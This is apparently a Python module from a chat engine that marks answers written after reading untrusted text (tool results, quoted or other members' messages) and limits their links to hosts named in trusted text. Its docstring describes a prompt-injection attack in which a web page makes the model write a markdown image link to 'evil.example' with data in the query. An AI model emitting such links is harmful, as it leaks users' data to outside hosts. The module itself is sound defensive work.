"""Whether an answer follows untrusted content, and so how the channel is to show it.

An answer written after the model read text nobody in the chat wrote is shown without link
previews, and with links only to hosts that trusted text named (:class:`engine.Untrusted`):
an instruction in a web page that makes the model write ``![](http://evil.example/?q=…)`` then
sends nothing by itself. This module decides it from what the model read in the turn (its whole
context: untrusted text read in an earlier turn still speaks in this one).

What is untrusted is read here from the messages themselves, the same rule everywhere: a tool's
result (a page, a search, an MCP server's output: what a tool returns was not written by the
requester), a quoted message, and in a group another member's message. Trusted text is the
owner's system prompt and the requester's own words; only hosts named there stay links.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from engine._channel import Untrusted
from engine.models import Message, Role

# Hosts as people write them: a domain (with or without a scheme) or an IPv4 address.
_HOST = re.compile(
    r"(?<![\w.@-])(?:[a-z][a-z0-9+.-]*://)?(?:[^\s/@]+@)?"
    r"((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)",
    re.I,
)
_SOURCE_CHARS = 60  # of a source's label


def hosts_in(text: str) -> set[str]:
    """The hosts `text` names, lower case, without a leading ``www.``."""
    return {m[1].lower().removeprefix("www.") for m in _HOST.finditer(text)}


def untrusted_of(
    context: Sequence[Message],
    system: str = "",
    requester: str | None = None,
    *,
    tool_text: bool = False,
) -> Untrusted | None:
    """How to show an answer to `context` (the messages the model read, in order), or None
    when all of it is trusted. `requester` is the name a group message of the requester carries
    as its speaker (None: every group message counts as another member's). `tool_text`: the
    text is a tool's (send_message, a result shown as it is), not the requester's: untrusted."""
    tools = {c.id: c.name for m in context for c in m.tool_calls}
    trusted = [system]
    sources: list[str] = []
    for m in context:
        match m.role:
            case Role.TOOL:
                result = m.result
                name = tools.get(result.call_id, "a tool") if result is not None else "a tool"
                sources.append(_label(name, m.text or ""))
            case Role.USER if m.speaker is not None and m.speaker != requester:
                sources.append(f"a message from {m.speaker}")
            case Role.USER:
                trusted.append(m.text or "")
                if m.quote is not None:
                    sources.append("a quoted message")
    if not sources and not tool_text:
        return None
    hosts = frozenset().union(*(hosts_in(t) for t in trusted))
    return Untrusted(hosts, tuple(dict.fromkeys(sources)))


def _label(tool: str, text: str) -> str:
    """A tool's result as a source: the tool, and the first host it names (the page read)."""
    first = _HOST.search(text[:500])
    host = first[1].lower().removeprefix("www.") if first is not None else ""
    return f"{tool} {host}".strip()[:_SOURCE_CHARS]
